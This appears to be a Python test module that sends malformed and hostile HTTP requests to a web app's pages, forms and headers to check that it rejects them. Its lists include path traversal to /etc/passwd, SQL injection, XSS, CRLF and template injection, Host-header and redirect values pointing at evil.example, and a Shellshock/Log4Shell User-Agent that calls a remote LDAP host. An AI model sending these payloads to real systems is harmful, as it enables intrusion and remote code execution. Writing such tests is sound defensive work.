"""The odd requests of people who have no account, by kind."""

from __future__ import annotations

from itertools import product

from tests.readers.reading import path_to, question_path

from .request import FORM, Odd, field_part, multipart, post

AGE, LIKES = question_path("age"), question_path("likes")
PAGES = ["/", path_to(), AGE, path_to("options"), path_to("handout"), path_to("all-options")]

PATHS = [
    *("/%00", "/%00/", "/a%00b/", "/%ff%fe/", "/%c0%ae%c0%ae/", "/%ED%A0%80/", "/%F0%9F%92%A9/"),
    *("/%", "/%zz/", "/%u0041/", "/%25%30%30/", "/%2500/", "/%0d%0aSet-Cookie:x=1/", "/%0a/"),
    *("/../../etc/passwd", "/..%2f..%2fetc/passwd", "/....//....//etc/passwd", "/%2e%2e/", "/./"),
    *("/static/../manage.py", "/static/%2e%2e/%2e%2e/secret_key", "/static/..%5csecret_key"),
    *("/static/", "/static/%00", "/static/css", "/static/" + "a/" * 500, "/static//etc/passwd"),
    *("//evil.example/", "///", "////evil.example", "/\\evil.example", "/;jsessionid=1", "/:80/"),
    *("/" + "a" * 3_000 + "/", "/" + "a/" * 1_500, path_to("a" * 3_000), path_to("a" * 300)),
    *("/.git/config", "/.env", "/wp-login.php", "/var/navigator.sqlite3", "/server-status"),
    *(path_to("questions"), path_to("questions", "no-such"), path_to("questions", "%00")),
    *(path_to("questions", "age%2f..%2flikes"), path_to("questions", "..", "options")),
    *map(question_path, ("a" * 2_000, "%ED%A0%80", "")),
    *(path_to("options", "options"), path_to().upper(), path_to() + "%20", path_to("options%00")),
    *("/admin%00/", path_to("%E2%80%AE"), "/healthz/", "/healthz%00", "/privacy"),
]
QUERIES = [
    *("%00", "from=%00", "from=options&from=x", "from=%ED%A0%80", "%ff=%fe", "from=%E0%A4%A"),
    *("=", "&&&", "from", "%", "%zz=%zz", "a[]=1&a[b]=2", "__proto__=1", "_method=DELETE"),
    *("print=large%0d%0aX-Injected:%20yes", "type=%27%22%3E%3Cscript%3Ealert(1)%3C/script%3E"),
    *("x" * 3_000, "&".join(["a=1"] * 1_000), "from=options" * 100),
    *("type=" + "%F0%9F%92%A9" * 99, "print=large&print=", "csrfmiddlewaretoken=x"),
    *("next=//evil.example", "from[options]=options"),
]
METHODS = ["TRACE", "TRACK", "CONNECT", "PUT", "DELETE", "PATCH", "PROPFIND", "MKCOL", "INVENTED"]


def paths():
    return [Odd(path) for path in PATHS]


def queries():
    return [Odd(f"{page}?{query}") for page, query in product(PAGES, QUERIES)]


def methods():
    targets = [*PAGES, "/static/css/navigator.css", "/admin/", "/no-such-page/"]
    refused = [Odd(page, method, status=405) for page, method in product(targets, METHODS)]
    asked = [Odd(page, method) for page, method in product(targets, ["OPTIONS", "HEAD"])]
    return refused + asked


def hosts():
    names = [
        *("evil.example", "evil.example:80", "127.0.0.1:x", "127.0.0.1@evil.example", "[::1"),
        *("127.0.0.1:80:80", "127.0.0.1.evil.example", "*", ".", "a" * 300, "xn--", "127.0.0.1/"),
        *("localhost'", "127.0.0.1#", "127.0.0.1?x", "%31%32%37.0.0.1", "{{7*7}}", "[::1]evil"),
    ]
    return [
        Odd(page, headers={"Host": name}, status=400)
        for page, name in product(["/", AGE, "/admin/login/", "/no-such-page/"], names)
    ]


FIELDS = {
    path_to(): ("reader", "self"),
    AGE: ("age", "adult"),
    LIKES: ("likes", "films"),
    path_to("trials"): ("topic", "x"),
    path_to("clear"): ("x", "x"),
    "/continue/": ("code", "AB12-CD34-EF56"),
}


def _bodies(name, value):
    """Bodies of a form, with what they are said to be: none of them says anything."""
    many = "&".join(f"{name}{number}=1" for number in range(1_500))
    yield from (
        (body, FORM)
        for body in (
            *(f"{name}=%00", f"{name}=%ED%A0%80", f"{name}=\xff", f"{name}=%FF%FE", f"%00={value}"),
            *(f"{name}=no-such-answer", f"{name}={value}%00", f"{name}[]={value}", f"{name}={{}}"),
            *(f"{name}=' OR 1=1 --", f"{name}=<script>", f"{name}={{{{7*7}}}}", f"{name}=../../x"),
            *(f"{name}={'x' * 3_000_000}", many, f"{name}=" + "%F0%9F%92%A9" * 5_000, "=&=&=", "%"),
            *(f"{name}=\r\nSet-Cookie: x=1", f"{name.upper()}={value}", f"\ufeff{name}={value}"),
        )
    )
    said = f"{name}={value}"
    yield from (
        (said.encode("utf-16"), f"{FORM}; charset=utf-16"),
        (said, f"{FORM}; charset={'x' * 500}"),
        (said, f'{FORM}; charset="utf-16'),
        (said, f"{FORM}; x*=idna''{'y' * 99}%ff"),
        (said, f"{FORM}; x*{'9' * 5_000}*=y"),
        (said, "text/plain"),
        (said, "application/json"),
        ('{"' + name + '": "' + value + '"}', "application/json"),
        ("<x/>", "text/xml"),
        (said, "application/octet-stream"),
        (said, "/"),
        (said, ";;;"),
        (said, "x" * 2_000),
    )
    good, form = field_part(name, value.encode()), "multipart/form-data"
    odd = f"{form}; boundary=odd"
    yield from (
        (multipart(good), form),
        (multipart(good), f"{form}; boundary="),
        (multipart(good), f"{form}; boundary=other"),
        (multipart(good), f"{form}; boundary={'x' * 500}"),
        (multipart(good), f'{form}; boundary="'),
        (multipart(good, end=b""), f"{form}; boundary=od"),
        (b"--odd", odd),
        (b"--odd--", odd),
        (b"", odd),
        (b"\r\n" * 5_000, odd),
        (multipart(b"no headers at all"), odd),
        (multipart(field_part("x" * 3_000, b"1")), odd),
        (multipart(field_part(name, b"\0")), odd),
        (multipart(field_part(name, b"\xed\xa0\x80")), odd),
        (multipart(*[field_part(f"{name}{number}", b"1") for number in range(1_500)]), odd),
        (multipart(field_part(name, b"x" * 3_000_000)), odd),
        (multipart(field_part(name, value.encode(), more=b'; filename="a.txt"')), odd),
        (multipart(*[field_part(name, b"1", more=b'; filename="a"')] * 150), odd),
        (multipart(field_part(name, b"!", more=b"\r\nContent-Transfer-Encoding: base64")), odd),
        (multipart(good), f"{odd}; charset=utf-16"),
        (multipart(good), f"{form}; boundary*=bogus''odd"),
        (multipart(field_part(name, b"1", more=b"; name*=bogus''x")), odd),
    )


def bodies():
    return [
        post(target, body, kind)
        for target, said in FIELDS.items()
        if target != path_to("clear")
        for body, kind in _bodies(*said)
    ]


def lengths():
    """The length that is told is not the length that is sent."""
    told = ["-1", "abc", "1e3", "0x10", "99999999999999999999", "", " ", "+5", "1, 1", "٣"]
    return [post(AGE, "age=no-such").having(Content_Length=each) for each in told]


def headers():
    odd = [
        {"HX-Request": "true"},
        {"HX-Request": "false"},
        {"HX-Request": "true", "HX-Current-URL": "http://[::1"},
        {"HX-Request": "true", "HX-Current-URL": "javascript:alert(1)"},
        {"HX-Request": "true", "HX-Current-URL": "https://evil.example/" + "a" * 3_000},
        {"HX-Request": "true", "HX-Current-URL": "%00", "HX-Current-URL-URI-AutoEncoded": "true"},
        {"HX-Request": "true", "HX-History-Restore-Request": "true"},
        {"HX-Request": "true", "HX-Boosted": "true", "HX-Target": "<script>", "HX-Trigger": "%00"},
        {"HX-Request": "true", "HX-Prompt": "' OR 1=1", "HX-Trigger-Name": "../.."},
        {"HX-Request": "true", "Triggering-Event": "{", "Triggering-Event-URI-AutoEncoded": "true"},
        {"X-Forwarded-Host": "evil.example"},
        {"X-Forwarded-For": "<script>, ' OR 1=1, 999.999.999.999"},
        {"X-Forwarded-Proto": "https"},
        {"X-Forwarded-Proto": "gopher, https"},
        {"X-HTTP-Method-Override": "DELETE"},
        {"X-Original-URL": "/admin/", "X-Rewrite-URL": "/admin/"},
        {"Accept-Language": "a" * 500},
        {"Accept-Language": "*;q=x, de-" + "-".join(["x"] * 100)},
        {"Accept-Encoding": "gzip;q=abc, *, br;q=9"},
        {"Accept": "application/json, */*;q=x"},
        {"Range": "bytes=0-1,2-3,9999999999999999999-"},
        {"If-Modified-Since": "yesterday", "If-None-Match": '"x", *, W/'},
        {"If-Modified-Since": "Fri, 32 Foo 99999 99:99:99 GMT"},
        {"Referer": "https://evil.example/%00", "Origin": "null"},
        {"Origin": "http://[::1"},
        {"User-Agent": "() { :; }; echo; ${jndi:ldap://evil.example/x}"},
        {"User-Agent": "\xff\xfe" * 100},
        {"Authorization": "Basic " + "A" * 2_000},
        {"Authorization": "Bearer null"},
        {"X-CSRFToken": "x" * 64},
        {"X-Requested-With": "XMLHttpRequest"},
        {"Expect": "200-ok"},
        {"Upgrade": "h2c", "HTTP2-Settings": "AAAA"},
    ]
    asked = [Odd(page, headers=each) for page, each in product([AGE, path_to("options")], odd)]
    static = [Odd("/static/css/navigator.css", headers=each) for each in odd]
    sent = [post(AGE, "age=no-such").having(**each) for each in odd]
    return asked + static + sent


def _answered(question, *choices, query="", more=""):
    body = "&".join(f"{question}={choice}" for choice in choices)
    return post(question_path(question) + query, body + more, says={question: set(choices)})


def steps():
    """Steps that are skipped, repeated, reordered, or made at the wrong place."""
    return [
        _answered("guardian", "yes"),
        _answered("likes", "books", "books", "books"),
        _answered("age", "not-told"),
        _answered("home", "nearby", more="&likes=films"),
        _answered("home", "unsure", query="?from=options"),
        _answered("home", "unsure", query="?from=elsewhere"),
        post(question_path("guardian"), "guardian=yes&guardian=no"),
        post(LIKES, "likes=unsure&likes=films"),
        post(LIKES, "likes=nothing&likes=films"),
        post(LIKES, "likes="),
        post(AGE, "age=adult&age=teen"),
        post(AGE, "likes=films"),
        post(question_path("no-such"), "no-such=yes"),
        post(path_to("options"), "age=adult"),
        post(path_to("handout"), "age=adult"),
        post(path_to("clear"), "", forgets=True),
        post(path_to("clear"), "reader=self", forgets=True),
        post("/", "reader=self"),
        post("/privacy/", "x=1"),
        post("/healthz", "x=1"),
        post("/static/css/navigator.css", "x=1"),
        post(path_to(), "reader=nobody"),
        post(path_to(), "reader=self&reader=other"),
        Odd(question_path("guardian")),
        Odd(f"{question_path('guardian')}?from=options"),
        Odd(path_to("clear")),
    ]
